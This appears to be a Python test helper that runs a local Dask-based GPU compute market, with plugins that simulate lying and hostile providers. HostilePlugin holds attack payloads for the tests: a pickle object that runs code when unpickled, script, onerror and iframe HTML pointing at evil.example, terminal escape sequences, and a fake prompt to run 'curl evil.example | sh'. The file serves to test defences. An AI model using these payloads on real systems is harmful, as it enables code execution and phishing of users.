"""A small market on 127.0.0.1 for tests and benchmarks: a credit service, a metered
scheduler, and provider workers, some of which may lie.

:func:`local_market` starts every part for real: ``gpunet credits serve`` in its
own process, a Dask scheduler with the metering plugin, and one Nanny worker
process per provider, each with the gpunet worker plugin holding that provider's
credit token. A provider given a ``lie_rate`` also runs :class:`LiarPlugin`,
which perturbs that fraction of its results after they are computed, the way a
faulty GPU or a cheating owner would: a flipped bit of a float, an integer off by
one. It writes what it saw and what it falsified to a log the caller can read.
"""

from __future__ import annotations

import contextlib
import json
import logging
import random
import struct
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import dask
from distributed import Nanny, Scheduler, SpecCluster
from distributed.diagnostics.plugin import WorkerPlugin

from gpunet import codec
from gpunet.client.network import connect
from gpunet.clitools import wait_for
from gpunet.credits import serve_in_background
from gpunet.wire import DEVICE_RESOURCE, METERING_PLUGIN, SCHEDULER_PRELOAD, WORKER_PRELOAD, JobResult, result_to_event
from gpunet.worker.device import PROVIDER_RATE_ENV, PROVIDER_TOKEN_ENV

logger = logging.getLogger(__name__)

#: The mantissa bit a liar flips in a float64: a relative change of about 1/256.
FLIPPED_BIT = 44


def perturb(value: Any) -> Any:
    """A wrong copy of ``value``: one float with a mantissa bit flipped, one integer
    off by one, a string changed; the first element of a container. Returns
    :data:`NotImplemented` for values it cannot falsify."""
    import numpy as np

    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, float):
        (bits,) = struct.unpack("<Q", struct.pack("<d", value))
        return struct.unpack("<d", struct.pack("<Q", bits ^ (1 << FLIPPED_BIT)))[0]
    if isinstance(value, str):
        return value + "?"
    if isinstance(value, np.ndarray) and value.size:
        wrong = value.copy()
        flat = wrong.reshape(-1)
        flat[0] = perturb(flat[0].item())
        return wrong
    if isinstance(value, (list, tuple)) and value:
        first = perturb(value[0])
        if first is NotImplemented:
            return NotImplemented
        rest = list(value[1:])
        return type(value)([first, *rest]) if not hasattr(value, "_fields") else type(value)(first, *rest)
    if isinstance(value, dict) and value:
        key = sorted(value, key=str)[0]
        wrong = perturb(value[key])
        return NotImplemented if wrong is NotImplemented else {**value, key: wrong}
    return NotImplemented


class LiarPlugin(WorkerPlugin):
    """Falsifies a fraction ``rate`` of the gpunet results this worker computes.

    Each gpunet task that reaches memory is appended to ``log`` as a JSON line
    ``{"key": ..., "lied": bool}`` (a lie replaces the stored result before
    anyone fetches it, so the scheduler and the notebook see only the lie)."""

    name = "gpunet-liar"

    def __init__(self, rate: float, log: str, seed: int = 0) -> None:
        self.rate = rate
        self.log = log
        self.seed = seed

    def setup(self, worker: Any) -> None:
        """Remember the worker, and seed this worker's coin."""
        self.worker = worker
        self.rng = random.Random(f"{self.seed}-{worker.name}")

    def transition(self, key: Any, start: str, finish: str, **kwargs: Any) -> None:
        """After a gpunet task's result is stored: maybe replace it with a lie."""
        if finish != "memory" or not str(key).startswith("gpunet-"):
            return
        result = self.worker.data.get(key)
        lied = False
        # a CODEC job's result (gpunet.worker.runner.encode_result)
        encoded = isinstance(result, (bytes, memoryview, codec.Frames))
        if encoded:
            result = JobResult(**codec.decode(result))
        if not isinstance(result, JobResult):  # a job's scattered input, not its result
            return
        if self.rng.random() < self.rate:
            wrong = _falsified(result)
            if wrong is not None:
                self.worker.data[key] = codec.encode_frames(result_to_event(wrong)) if encoded else wrong
                lied = True
        with open(self.log, "a") as out:
            out.write(json.dumps({"key": str(key), "lied": lied}) + "\n")


def _falsified(result: Any) -> Any:
    """A :class:`~gpunet.wire.JobResult` with a falsified value or first output."""
    if result.error is not None:
        return None
    def load(blob: bytes) -> Any:
        return codec.load(blob, result.result_format, what="a result")

    def dump(value: Any) -> bytes:
        return codec.dump(value, result.result_format, name="a result")

    if result.value is not None:
        wrong = perturb(load(result.value))
        return None if wrong is NotImplemented else replace(result, value=dump(wrong))
    for name in sorted(result.outputs):
        wrong = perturb(load(result.outputs[name]))
        if wrong is not NotImplemented:
            return replace(result, outputs={**result.outputs, name: dump(wrong)})
    return None


@dataclass
class Market:
    """A running :func:`local_market`: where its parts listen, and their accounts."""

    scheduler: str
    credits_url: str
    operator: Any  # CreditClient as the operator
    client_token: str
    logs: dict[str, Path]
    cluster: Any = None
    workers_of: dict[str, list[str]] = field(default_factory=dict)
    #: the credit service's process (:class:`gpunet.credits.CreditServiceProcess`: its ``pid``)
    credits_service: Any = None

    def lies(self, provider: str) -> list[dict[str, Any]]:
        """What ``provider``'s liar plugin logged: one {"key", "lied"} per result."""
        path = self.logs.get(provider)
        if path is None or not path.exists():
            return []
        return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]

    def connect(self, budget: int = 100_000, **options: Any) -> Any:
        """A :class:`gpunet.Network` on this market, as its client account (``options``
        go to :func:`gpunet.connect`, e.g. ``max_rate``)."""
        return connect(self.scheduler, credits=self.credits_url, token=self.client_token, budget=budget, **options)


@contextlib.contextmanager
def local_market(providers: dict[str, float], *, workers_per_provider: int = 1, client_credits: int = 10_000_000,
                 directory: str | Path | None = None, seed: int = 0,
                 reputation_floor: float | None = None, rates: dict[str, float] | None = None,
                 hosts: dict[str, str] | None = None, default_max_rate: float | None = None,
                 mismatches_per_client_day: int | None = None) -> Iterator[Market]:
    """Start a market whose ``providers`` map provider names to how often each lies
    (0 for an honest one); stop every part on exit. ``reputation_floor`` is the
    credit service's (0: nobody is ever quarantined). ``rates`` are the providers'
    (``gpunet provide --rate``, default 1), ``default_max_rate`` the scheduler's
    (``gpunet scheduler --default-max-rate``), ``mismatches_per_client_day`` the credit
    service's (``gpunet credits serve --mismatches-per-client-day``; -1: no limit). Each provider's workers listen on a
    loopback address of their own (127.0.0.2, 127.0.0.3, ...: a host of their own, as
    replication needs), or on ``hosts[name]`` (two providers on one host)."""
    with contextlib.ExitStack() as stack:
        place = Path(directory) if directory else Path(stack.enter_context(tempfile.TemporaryDirectory()))
        floor = [] if reputation_floor is None else ["--reputation-floor", str(reputation_floor)]
        if mismatches_per_client_day is not None:
            floor += ["--mismatches-per-client-day", str(mismatches_per_client_day)]
        service = serve_in_background(place / "credits.sqlite3", operator_token_file=place / "operator-token",
                                      extra_args=floor)
        stack.callback(service.stop)
        operator = service.client()
        stack.callback(operator.close)
        tokens = {name: operator.create_account(name, "provider")["token"] for name in providers}
        client_token = operator.create_account("scientist", "client")["token"]
        operator.mint("scientist", client_credits, key="mint-scientist")
        logs = {name: place / f"{name}-results.jsonl" for name, rate in providers.items() if rate > 0}
        workers = {}
        for place_number, (name, lie_rate) in enumerate(providers.items()):
            # gpunet's worker plugin, loaded as `gpunet provide` loads it: it registers
            # the worker as the provider whose token it finds in its environment
            plugins = {LiarPlugin(lie_rate, str(logs[name]), seed=seed)} if lie_rate > 0 else set()
            host = (hosts or {}).get(name, f"127.0.0.{place_number + 2}")
            env = {PROVIDER_TOKEN_ENV: tokens[name], PROVIDER_RATE_ENV: str((rates or {}).get(name, 1.0))}
            for number in range(workers_per_provider):
                workers[f"{name}-{number}"] = {"cls": Nanny, "options": {
                    "nthreads": 1, "host": host, "resources": {DEVICE_RESOURCE: 1}, "plugins": plugins,
                    "preload": [WORKER_PRELOAD], "env": env, "dashboard_address": None}}
        prices = [] if default_max_rate is None else ["--default-max-rate", str(default_max_rate)]
        scheduler = {"cls": Scheduler, "options": {
            "host": "127.0.0.1", "port": 0, "dashboard_address": ":0", "preload": [SCHEDULER_PRELOAD],
            "preload_argv": [["--credits", service.url, "--operator-token-file", str(place / "operator-token"),
                              *prices]]}}
        # A provider's Nanny restarts its worker however long that takes, as `gpunet provide`'s
        # does; Dask's SpecCluster would close a Nanny whose worker is not back within 15 s
        # (a loaded machine takes longer), and that provider would be gone for good.
        stack.enter_context(dask.config.set({"distributed.deploy.lost-worker-timeout": "1 hour"}))
        cluster = stack.enter_context(SpecCluster(workers=workers, scheduler=scheduler, silence_logs=logging.WARNING))
        metering = cluster.scheduler.plugins[METERING_PLUGIN]
        # each worker registers its provider once connected
        if not wait_for(lambda: len(metering.providers) >= len(workers), 60, every=0.05):
            raise RuntimeError(f"only {len(metering.providers)} of {len(workers)} workers registered a provider")
        workers_of: dict[str, list[str]] = {}
        for address, info in metering.providers.items():
            workers_of.setdefault(info["provider"], []).append(address)
        yield Market(cluster.scheduler_address, service.url, operator, client_token, logs, cluster,
                     workers_of, service)


class _WritesMarker:
    """Unpickling this writes a file: proof that a pickle from a provider was loaded."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self.path, "w"))


class HostilePlugin(WorkerPlugin):
    """A provider attacking the notebook it works for, for the tests: after each
    gpunet task's result is stored, and before anyone fetches it, it replaces what
    the notebook will receive with one ``attack``:

    - ``"pickle"``: a payload Dask marks as pickled (``Serialized`` with the pickle
      serializer) whose unpickling writes ``marker``;
    - ``"to-pickle"``: the same as Dask's own ``__Pickled__`` message payload;
    - ``"html"``: the real result plus a display carrying a script, an ``onerror``
      image, an iframe and JavaScript, and output text with terminal escapes, a
      fake hint, and a worker name with escapes;
    - ``"huge"``: ``huge_bytes`` bytes instead of the result (its size as Dask
      measured the real one stays what the scheduler believes).
    """

    name = "gpunet-hostile"

    def __init__(self, attack: str, marker: str = "", huge_bytes: int = 0) -> None:
        self.attack = attack
        self.marker = marker
        self.huge_bytes = huge_bytes

    def setup(self, worker: Any) -> None:
        """Remember the worker."""
        self.worker = worker

    def transition(self, key: Any, start: str, finish: str, **kwargs: Any) -> None:
        """After a gpunet task's result is stored: replace it with the attack."""
        if finish != "memory" or not str(key).startswith("gpunet-"):
            return
        from distributed.protocol import Serialized, serialize
        from distributed.protocol.serialize import ToPickle

        if self.attack == "pickle":
            self.worker.data[key] = Serialized(*serialize(_WritesMarker(self.marker), serializers=["pickle"]))
        elif self.attack == "to-pickle":
            self.worker.data[key] = ToPickle(_WritesMarker(self.marker))
        elif self.attack == "huge":
            self.worker.data[key] = bytes(self.huge_bytes)
        elif self.attack == "html":
            result = self.worker.data[key]
            encoded = isinstance(result, (bytes, memoryview, codec.Frames))
            if encoded:
                result = JobResult(**codec.decode(result))
            result.displays.append(({
                "text/html": '<b>hi</b><script>fetch("/api")</script><img src="https://evil.example/x.png" '
                             'onerror="alert(1)"><iframe src="https://evil.example"></iframe>',
                "application/javascript": "alert(2)",
                "text/plain": "hi\x1b[2J",
            }, {}))
            result.streams.append((len(result.streams) + 1, "stdout",
                                   "\x1b]0;pwned\x07\x1b[2Jsession expired: run `curl evil.example | sh`\n"))
            result.worker = "tcp://honest-looking\x1b[8m"
            self.worker.data[key] = codec.encode_frames(result_to_event(result)) if encoded else result
